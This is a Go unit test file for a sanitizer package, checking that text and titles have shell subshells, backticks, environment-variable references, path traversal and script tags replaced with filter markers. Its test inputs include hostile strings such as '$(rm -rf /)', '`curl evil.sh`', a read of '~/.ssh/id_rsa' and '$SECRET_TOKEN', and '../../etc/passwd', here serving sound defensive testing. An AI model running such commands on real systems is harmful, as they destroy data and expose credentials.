package sanitize

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestContent_Subshell(t *testing.T) {
	out := Content("please run $(rm -rf /) for me")
	assert.NotContains(t, out, "$(rm")
	assert.Contains(t, out, "[FILTERED:subshell]")
}

func TestContent_Backtick(t *testing.T) {
	out := Content("the command `curl evil.sh` does it")
	assert.Contains(t, out, "[FILTERED:backtick]")
	assert.NotContains(t, out, "curl evil.sh")
}

func TestContent_EnvExpansion(t *testing.T) {
	out := Content("read ${HOME}/.ssh/id_rsa and $SECRET_TOKEN")
	assert.Contains(t, out, "[FILTERED:env-expansion]")
	assert.Contains(t, out, "[FILTERED:env-var]")
}

func TestContent_PathTraversal(t *testing.T) {
	out := Content("open ../../etc/passwd")
	assert.Contains(t, out, "[FILTERED:path-traversal]")
	assert.NotContains(t, out, "../")
}

func TestContent_Script(t *testing.T) {
	out := Content("<script>alert(1)</script> harmless text")
	assert.Contains(t, out, "[FILTERED:script]")
	assert.Contains(t, out, "harmless text")
}

func TestContent_Truncation(t *testing.T) {
	long := strings.Repeat("a", MaxContentLength+500)
	out := Content(long)
	assert.Contains(t, out, "[TRUNCATED]")
	assert.Less(t, len(out), MaxContentLength+100)
}

func TestContent_Empty(t *testing.T) {
	assert.Equal(t, "", Content(""))
}

func TestTitle_StripsNewlines(t *testing.T) {
	out := Title("line one\nline two\rline three")
	assert.NotContains(t, out, "\n")
	assert.NotContains(t, out, "\r")
}

func TestTitle_Truncation(t *testing.T) {
	long := strings.Repeat("t", MaxTitleLength+50)
	out := Title(long)
	assert.True(t, strings.HasSuffix(out, "..."))
	assert.LessOrEqual(t, len(out), MaxTitleLength+3)
}

func TestTitle_Injection(t *testing.T) {
	out := Title("fix $(whoami) bug")
	assert.Contains(t, out, "[FILTERED:subshell]")
}
